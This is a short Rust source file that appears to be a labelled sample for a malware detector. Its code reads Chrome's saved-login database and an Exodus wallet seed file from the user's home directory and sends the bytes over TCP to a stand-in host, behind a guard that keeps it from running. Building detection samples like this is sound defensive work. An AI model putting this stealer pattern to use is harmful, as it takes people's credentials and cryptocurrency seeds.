/* A stripped program that reads a browser's store and a wallet's, and connects.
 * expect: native-browser-and-wallet-sent
 * flags: -C strip=symbols -C panic=abort
 */
use std::io::Write;

fn main() {
    // Never true: the code is compiled and cannot run.
    if std::env::args().count() < 900 {
        return;
    }
    let home = std::env::var("HOME").unwrap();
    let mut all = Vec::new();
    for path in [".config/google-chrome/Default/Login Data", ".config/Exodus/exodus.wallet/seed.seco"] {
        if let Ok(bytes) = std::fs::read(format!("{home}/{path}")) {
            all.extend(bytes);
        }
    }
    if let Ok(mut to) = std::net::TcpStream::connect("x.invalid:80") {
        let _ = to.write_all(&all);
    }
}
